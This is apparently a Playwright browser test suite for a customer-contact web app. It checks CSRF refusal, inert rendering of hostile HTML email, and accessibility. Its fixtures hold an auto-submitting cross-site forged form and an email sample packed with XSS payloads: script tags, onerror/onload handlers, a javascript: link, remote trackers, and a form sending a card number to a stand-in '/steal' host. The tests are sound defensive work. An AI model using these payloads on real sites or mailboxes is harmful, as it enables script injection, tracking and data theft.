"""Safety in the browser: a cross-site form post is refused, hostile email HTML stays inert, and the
pages pass axe-core with no serious or critical accessibility violation."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from hub.auth import SYSTEM
from hub.contacts import IdentityIn, create_contact
from hub.ingest import InboundEvent, post_event
from hub.models import IdentityKind, Role, TimelineEvent
from tests.web.conftest import sign_in
from tests.web.seed import seed_customer

pytestmark = [pytest.mark.browser, pytest.mark.any_store]


class OtherSite:
    """A second web server on another port: the attacker's page, and a "remote" host that counts hits."""

    def __init__(self, page_html: str = "") -> None:
        self.hits: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                site.hits.append(self.path)
                body = page_html.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> OtherSite:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def contact_id(live_server) -> int:
    with live_server.hub.session() as session, session.begin():
        contact = create_contact(session, actor=SYSTEM, region="RU", display_name="Target Person",
                                 identities=[IdentityIn(kind=IdentityKind.EMAIL, value="target@example.com")])
    return contact.id


def _notes(live_server, contact_id: int) -> int:
    with live_server.hub.session(read_only=True) as session:
        return session.query(TimelineEvent).filter_by(contact_id=contact_id, channel="note").count()


def test_a_cross_site_form_post_is_refused(live_server, agent_page, contact_id):
    attack = f"""<!doctype html><html><body>
      <form id="f" method="post" action="{live_server.url}/contacts/{contact_id}/notes">
        <input name="text" value="pwned by another site"><input name="csrf_token" value="guessed">
      </form><script>document.getElementById('f').submit()</script></body></html>"""
    with OtherSite(attack) as evil:
        with agent_page.expect_response(lambda r: r.url.endswith(f"/contacts/{contact_id}/notes")) as answer:
            agent_page.goto(evil.url + "/prize")
        assert answer.value.status == 403
        expect(agent_page.get_by_text("did not come from a page of this hub")).to_be_visible()
    assert _notes(live_server, contact_id) == 0

    # The same form from the hub's own page goes through.
    agent_page.goto(f"/contacts/{contact_id}")
    agent_page.get_by_placeholder("Write a note for your colleagues…").fill("A real note")
    agent_page.get_by_role("button", name="Add note").click()
    expect(agent_page.locator("#timeline-items")).to_contain_text("A real note")
    assert _notes(live_server, contact_id) == 1


HOSTILE = """
<html><head><base href="{remote}/base/"><meta http-equiv="refresh" content="0;url={remote}/refresh">
<link rel="stylesheet" href="{remote}/style.css"><style>body {{ background: url({remote}/css-bg.png) }}</style>
<script>parent.document.title = "pwned-script"; window.top.pwned = 1;</script></head>
<body onload="parent.document.title='pwned-onload'">
<p>Dear support, please see <a href="javascript:parent.document.title='pwned-link'" id="js-link">my invoice</a>.</p>
<img src="{remote}/pixel.gif" alt="tracker"><img src="x" onerror="parent.document.title='pwned-onerror'">
<img srcset="{remote}/srcset.png 2x" src="relative.png">
<div style="background-image: url('{remote}/inline-bg.png')">styled</div>
<svg><image href="{remote}/svg.png"/><script>parent.document.title='pwned-svg'</script></svg>
<iframe src="{remote}/frame"></iframe><object data="{remote}/object"></object>
<video poster="{remote}/poster.png" src="{remote}/video.mp4"></video>
<form action="{remote}/steal"><input name="card" value="4111"><button id="send">Send</button></form>
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="inline pixel">
<p>Regards, Mallory</p></body></html>
"""


def test_hostile_html_email_is_shown_inert(live_server, agent_page, contact_id):
    with OtherSite("remote content") as remote:
        with live_server.hub.session() as session, session.begin():
            post_event(session, event=InboundEvent(
                channel="email", kind="email", contact_id=contact_id, subject="Invoice question",
                html=HOSTILE.format(remote=remote.url), external_id="hostile-1",
            ))
        off_site: list[str] = []
        agent_page.on("request", lambda r: off_site.append(r.url) if not r.url.startswith(
            (live_server.url, "data:", "about:")) else None)
        dialogs: list[str] = []
        agent_page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        agent_page.goto(f"/contacts/{contact_id}")
        event = agent_page.locator("li.event", has_text="Invoice question")
        expect(event).to_contain_text("Dear support, please see my invoice.")  # the text version, tags stripped
        event.get_by_role("button", name="Show formatted message").click()
        frame_element = event.locator("iframe.email-frame")
        expect(frame_element).to_have_attribute("sandbox", "")
        frame = frame_element.content_frame
        expect(frame.get_by_text("Regards, Mallory")).to_be_visible()
        expect(frame.locator("a", has_text="my invoice")).not_to_have_attribute("href", "javascript:")
        frame.locator("a", has_text="my invoice").click()
        agent_page.wait_for_timeout(500)  # give anything that could fire the chance to

        title = agent_page.title()
        assert "pwned" not in title, title
        assert agent_page.evaluate("window.pwned") is None
        assert dialogs == []
        assert off_site == [], off_site
        assert remote.hits == [], remote.hits
        inner = frame_element.get_attribute("srcdoc") or ""
        for gone in ("<script", "onerror", "onload", "javascript:", "<base", "http-equiv=\"refresh", "<iframe",
                     "<object", "<form", remote.url):
            assert gone not in inner, gone
        assert "data:image/gif;base64" in inner  # content carried inside the message still shows


def test_pages_have_no_serious_accessibility_violations(live_server, new_page):
    from axe_playwright_python.sync_playwright import Axe

    user = live_server.user("admin@example.com", role=Role.ADMIN, name="Ada Admin")
    contact_id = seed_customer(live_server.hub, owner_id=user.id, assignee_id=user.id)
    endpoint_id = seed_webhook(live_server.hub)
    axe = Axe()
    found: dict[str, list[str]] = {}
    for viewport in ({"width": 1366, "height": 900}, {"width": 390, "height": 844}):
        page = new_page(viewport=viewport)
        page.goto("/login")
        pages = [("/login", None)]
        sign_in(page, "admin@example.com", next_path="/")
        pages += [("/", None), (f"/contacts/{contact_id}", "#timeline-items .event"), ("/tasks", None),
                  ("/account", None), (f"/contacts/{contact_id}/edit", None), ("/admin/users", None),
                  ("/admin/api-keys", None), ("/search?q=Мария", None), ("/admin/webhooks", None),
                  (f"/admin/webhooks/{endpoint_id}", None)]
        for path, ready in pages:
            if path == "/login":
                continue
            page.goto(path)
            if ready:
                page.wait_for_selector(ready)
            results = axe.run(page)
            bad = [v for v in results.response["violations"] if v.get("impact") in ("serious", "critical")]
            if bad:
                found[f"{path} @{viewport['width']}"] = [f"{v['id']}: {v['help']} ({len(v['nodes'])}: {[n['target'] for n in v['nodes']][:3]})" for v in bad]
        page.context.clear_cookies()
        page.goto("/login")
        results = axe.run(page)
        bad = [v for v in results.response["violations"] if v.get("impact") in ("serious", "critical")]
        if bad:
            found[f"/login @{viewport['width']}"] = [f"{v['id']}: {v['help']}" for v in bad]
    assert found == {}, found


def seed_webhook(hub) -> int:
    """A webhook endpoint with one delivery in its log (its URL is public: nothing is sent here)."""
    from webhooks.models import WebhookDelivery, WebhookEndpoint, WebhookMessage

    with hub.session() as session, session.begin():
        endpoint = WebhookEndpoint(url="https://8.8.8.8/hub-events", event_types=["*"], secret="whsec_AAAA")
        message = WebhookMessage(message_id="msg_axe", type="contact.created", subject="contact:1",
                                 payload={"type": "contact.created", "data": {"contact_id": 1}})
        session.add_all([endpoint, message])
        session.flush()
        session.add(WebhookDelivery(endpoint_id=endpoint.id, message_id=message.id, subject="contact:1",
                                    status="delivered", attempts=1, last_status_code=200, last_latency_ms=12))
        return endpoint.id
